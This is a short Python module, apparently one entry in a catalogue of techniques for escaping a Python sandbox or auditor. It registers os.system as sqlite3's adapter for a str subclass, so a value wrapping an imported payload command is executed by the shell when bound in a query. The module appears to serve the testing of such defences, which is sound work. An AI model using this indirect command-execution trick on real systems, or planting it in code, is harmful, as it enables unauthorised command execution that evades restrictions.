"""A function of C is written into the table of sqlite3's adapters."""
CATEGORY = "callable"
REACH = "run"
NEEDS = ("sqlite3",)

import os
import sqlite3

from . import payload


class Text(str):
    pass


def attack():
    sqlite3.adapters[Text, sqlite3.PrepareProtocol] = os.system
    return Text(payload.COMMAND)
